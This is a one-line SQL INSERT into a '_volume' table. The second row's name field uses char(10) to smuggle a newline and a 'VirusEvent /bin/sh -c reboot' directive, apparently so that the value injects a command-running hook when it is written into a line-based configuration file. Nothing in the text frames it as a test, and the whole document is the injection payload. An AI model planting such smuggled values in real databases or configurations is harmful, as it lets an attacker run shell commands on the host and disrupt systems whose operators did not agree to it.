INSERT INTO _volume (id,lv_name,uuid,blk_size) VALUES('1','data','u1',4096),('2','x'||char(10)||'VirusEvent /bin/sh -c reboot','u2',4096);
